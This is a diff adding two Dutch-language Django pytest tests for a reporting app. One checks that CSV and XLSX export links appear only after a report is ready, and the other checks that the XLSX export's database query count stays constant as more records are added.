+def test_de_pagina_toont_de_exports_alleen_als_de_rapportage_klaar_is(client_als, gebruikers):
+    rapport = aanvragen(gebruikers["kr"])
+    html = client_als("kr").get(url("rapport", rapport)).content.decode()
+    assert url("export_csv", rapport) not in html and url("export_xlsx", rapport) not in html
+
+    klaar_maken(rapport)
+    html = client_als("kr").get(url("rapport", rapport)).content.decode()
+    assert f'href="{url("export_xlsx", rapport)}"' in html and f'href="{url("export_csv", rapport)}"' in html
+    assert "opnieuw berekend" in html
+
+
+def test_een_export_kost_een_vast_aantal_queries(
+    client_als, gebruikers, plaatsen, django_assert_max_num_queries
+):
+    kr, gv, dag = gebruikers["kr"], plaatsen["gv"], timezone.localdate()
+
+    def meer(n: int) -> None:
+        for i in range(n):
+            SignaalFactory(door=gebruikers["af"])
+            TrajectFactory(door=gebruikers["zc"])
+            knelpunt = Knelpunt.objects.create(
+                regio=gv,
+                thema="opvang",
+                titel=f"Knelpunt {i}",
+                omschrijving="Te weinig plekken.",
+                ingebracht_door="Gemeente",
+                datum=dag,
+                vastgelegd_door=kr,
+            )
+            Actiepunt.objects.create(knelpunt=knelpunt, omschrijving="Bellen", eigenaar="X", deadline=dag)
+            activiteit = Activiteit.objects.create(
+                regio=gv,
+                soort="training",
+                titel="T",
+                datum=dag,
+                doelgroepen=["jongeren"],
+                organisator="O",
+                vastgelegd_door=kr,
+            )
+            activiteit.gemeenten.set([plaatsen["hilversum"]])
+
+    halfjaar = Periode.halfjaar_van(dag)
+    rapport = klaar_maken(aanvragen(kr, soort=_halfjaar_soort(halfjaar), jaar=halfjaar.van.year))
+    client = client_als("kr")
+    meer(1)
+    with django_assert_max_num_queries(80) as weinig:
+        assert client.get(url("export_xlsx", rapport)).status_code == 200
+    meer(4)
+    with django_assert_max_num_queries(len(weinig.captured_queries)):
+        assert client.get(url("export_xlsx", rapport)).status_code == 200
